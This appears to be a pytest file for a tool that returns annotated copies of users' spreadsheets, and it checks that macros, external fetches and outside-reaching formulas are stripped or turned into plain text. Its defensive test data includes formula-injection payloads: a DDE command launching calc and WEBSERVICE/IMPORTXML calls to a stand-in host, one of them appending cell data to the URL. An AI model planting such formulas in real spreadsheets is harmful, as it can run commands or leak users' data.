"""Somebody's workbook given back: what is to be mended in sight, nothing in it that acts."""

import io
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from odfdo import Cell, Document, Row, Table
from openpyxl.comments import Comment

from prioritisation.imports.answers import FileAnswers
from prioritisation.imports.errors import FileRefused
from prioritisation.imports.files.annotated import annotated_file
from prioritisation.imports.files.annotated_ods import annotated_ods
from prioritisation.imports.files.marks import CellMark, MarkWords, marks_as_sent, sent_marks
from prioritisation.imports.files.opening import opened_file
from prioritisation.imports.process.service import run_limited
from prioritisation.imports.tables.reading import file_reading
from prioritisation.sentences.import_marks import mark_words

WORDS = MarkWords("À corriger", "Copie", ("Nature", "Cellule", "Ici", "Attendu", "Que faire"), "P")
HOSTILE = '=HYPERLINK("http://x")'
MARKS = (
    CellMark("'Feuille d''1'!B2", "yes", "à corriger", HOSTILE, "un nombre", "=1+1"),
    CellMark("'Feuille d''1'!D2:D9", "", "à préciser", "x\x00", "@question", "-y"),
    CellMark("'Feuille d''1'!C", "", "à préciser", "x", "y", "z"),
    CellMark("Nulle part!A1", "yes", "à corriger", "", "", ""),
)
SENT = marks_as_sent(sent_marks(MARKS, WORDS))
"""As they arrive where the copy is made."""


def workbook(macros=False, formulas=()):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Feuille d'1"
    for row in (("Levier", "Coût", "Accord"), ("Un", "quatre", "bon"), ("Deux", 12, "moyen")):
        sheet.append(row)
    sheet["B2"].comment = Comment("la mienne", "moi")
    sheet.merge_cells("C1:D2")
    for k, formula in enumerate(formulas):
        sheet[f"F{k + 1}"] = formula
    out = io.BytesIO()
    book.save(out)
    return with_macros(out.getvalue()) if macros else out.getvalue()


def with_macros(content):
    """The same as Excel writes a workbook that has some."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w") as after:
        for info in before.infolist():
            part = before.read(info)
            if info.filename == "[Content_Types].xml":
                plain = b"openxmlformats-officedocument.spreadsheetml.sheet.main"
                part = part.replace(
                    b"application/vnd." + plain,
                    b"application/vnd.ms-excel.sheet.macroEnabled.main",
                )
            after.writestr(info, part)
        after.writestr("xl/vbaProject.bin", b"macros")
    return out.getvalue()


def annotated(content, marks=MARKS):
    return annotated_file("x.xlsx", content, sent_marks(marks, WORDS))


def opened(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def test_marks_arrive_as_they_were_sent():
    """But for signs that no workbook holds."""
    marks, words = marks_as_sent(sent_marks(MARKS, WORDS))
    assert words == WORDS
    assert marks == (MARKS[0], replace(MARKS[1], found="x"), *MARKS[2:])


def test_each_cell_is_coloured_and_commented_and_the_rest_is_as_it_was():
    book = opened(annotated(workbook()))
    sheet = book["Feuille d'1"]
    assert book.sheetnames == ["À corriger", "Feuille d'1"]
    assert sheet["B2"].fill.start_color.rgb == "FFFFD9A0"
    assert sheet["B2"].comment.text == "la mienne\n\nun nombre\n=1+1"
    # D2 is under merged cells, of which the first one shows.
    assert sheet["C1"].fill.start_color.rgb == "FFCFE3F7"
    assert sheet["C1"].comment.text.startswith("@question")
    assert (sheet["B2"].value, sheet["B3"].value) == ("quatre", 12)
    assert sheet["B3"].comment is None


def test_the_first_sheet_leads_to_each_cell():
    book = opened(annotated(workbook()))
    page = book["À corriger"]
    rows = [[cell.value for cell in row] for row in page.iter_rows()]
    assert rows[0][0] == "Copie"
    assert rows[1] == list(WORDS.heads)
    assert [row[1] for row in rows[2:]] == [mark.cell for mark in MARKS]
    assert page["B3"].hyperlink.location == "'Feuille d''1'!B2"
    assert page["B4"].hyperlink.location == "'Feuille d''1'!D2"
    assert page["B5"].hyperlink is None
    assert book.active.title == "À corriger"


def test_nothing_that_is_quoted_is_a_formula():
    page = opened(annotated(workbook()))["À corriger"]
    cells = [cell for row in page.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert page["C3"].value == HOSTILE
    assert all(cell.quotePrefix for cell in cells)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/"&B2)',
        '=HYPERLINK("http://x","y")',
        "=cmd|' /C calc'!A0",
        "='[other.xlsx]S'!A1",
        '=IMPORTXML("http://x","//y")',
        '=IMAGE("http://x")',
    ],
)
def test_what_would_reach_elsewhere_is_a_text_that_shows_it(formula):
    sheet = opened(annotated(workbook(formulas=[formula, "=SUM(B2:B3)"])))["Feuille d'1"]
    assert (sheet["F1"].data_type, sheet["F1"].value) == ("s", formula)
    assert (sheet["F2"].data_type, sheet["F2"].value) == ("f", "=SUM(B2:B3)")


def test_a_stray_last_cell_is_no_reason_for_no_copy():
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book.active["XFD1048576"] = "égarée"
    out = io.BytesIO()
    book.save(out)
    made = run_limited("annotate", "f.xlsx", out.getvalue(), sent_marks(MARKS, WORDS))
    assert openpyxl.load_workbook(io.BytesIO(made)).worksheets[1]["XFD1048576"].value == "égarée"


def test_macros_do_not_come_along():
    content = annotated(workbook(macros=True))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
        assert b"macroEnabled" not in archive.read("[Content_Types].xml")


def test_it_is_made_where_nothing_may_be_written():
    content = run_limited("annotate", "x.xlsx", workbook(), sent_marks(MARKS, WORDS))
    assert opened(content).sheetnames[0] == "À corriger"


def test_a_text_has_no_copy():
    with pytest.raises(FileRefused):
        annotated_file("x.csv", b"a;b\n1;2\n3;4\n", sent_marks(MARKS, WORDS))


@pytest.fixture(scope="module")
def open_workbook():
    document = Document("ods")
    document.body.clear()
    table = Table("Feuille d'1")
    for line in (("Levier", "Coût"), ("Un", "quatre"), ("Deux", "5")):
        row = Row()
        for text in line:
            row.append_cell(Cell(text, cell_type="string", text=text))
        table.append_row(row)
    document.body.append(table)
    for k, formula in enumerate(('of:=WEBSERVICE("http://x")', "of:=SUM([.B2:.B3])")):
        cell = Cell(1.0, cell_type="float", formula=formula)
        table.set_cell((3, k), cell)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_an_open_document_is_annotated_as_well(open_workbook):
    document = Document(io.BytesIO(annotated_ods(open_workbook, *SENT)))
    page, sheet = document.body.tables
    assert (page.name, sheet.name) == ("À corriger", "Feuille d'1")
    marked = sheet.get_cell("B2")
    assert marked.value == "quatre"
    assert "un nombre" in marked.serialize()
    style = document.get_style("table-cell", marked.style)
    assert "#ffd9a0" in style.serialize()
    assert "#'Feuille d''1'.B2" in page.get_cell("B3").serialize()
    assert "formula" not in page.serialize()


def test_nor_does_an_open_document_reach_elsewhere(open_workbook):
    document = Document(io.BytesIO(annotated_ods(open_workbook, *SENT)))
    sheet = document.body.tables[1]
    assert sheet.get_cell("D1").formula is None
    assert sheet.get_cell("D1").value == 1
    assert sheet.get_cell("D2").formula == "of:=SUM([.B2:.B3])"


FETCHED = """<table:shapes><draw:frame><draw:image xlink:href="http://x/a.png"/></draw:frame>
</table:shapes><table:table-source xlink:href="http://x/b.ods"/>"""


def test_neither_macros_charts_nor_what_is_fetched_come_along_with_an_open_document(open_workbook):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(open_workbook)) as before, zipfile.ZipFile(out, "w") as after:
        for name in before.namelist():
            part = before.read(name)
            if name == "content.xml":
                part = part.replace(b"</table:table>", FETCHED.encode() + b"</table:table>")
            if name == "META-INF/manifest.xml":
                entry = '<manifest:file-entry manifest:full-path="Basic/a.xml"/>'
                part = part.replace(
                    b"</manifest:manifest>", f"{entry}</manifest:manifest>".encode()
                )
            after.writestr(name, part)
        for name in ("Basic/a.xml", "Scripts/python/a.py", "Object 1/content.xml"):
            after.writestr(name, b"<a/>")
    made = zipfile.ZipFile(io.BytesIO(annotated_ods(out.getvalue(), *SENT)))
    assert not [
        name for name in made.namelist() if name.startswith(("Basic", "Scripts", "Object"))
    ]
    assert b"Basic" not in made.read("META-INF/manifest.xml")
    assert b"http://x/" not in made.read("content.xml")
    assert len(Document(io.BytesIO(annotated_ods(out.getvalue(), *SENT))).body.tables) == 2


def test_once_mended_it_is_given_again_and_its_list_is_no_table():
    words = replace(WORDS, caution=mark_words().caution)
    content = annotated_file("x.xlsx", workbook(), sent_marks(MARKS, words))
    reading = file_reading(opened_file("x.xlsx", content), FileAnswers())
    assert reading.layout.sheets == ("Feuille d'1",)
    assert [one.name for one in reading.levers] == ["Un", "Deux"]
    assert ("other_sheet", "À corriger") in {(one.why, one.text) for one in reading.left_out}
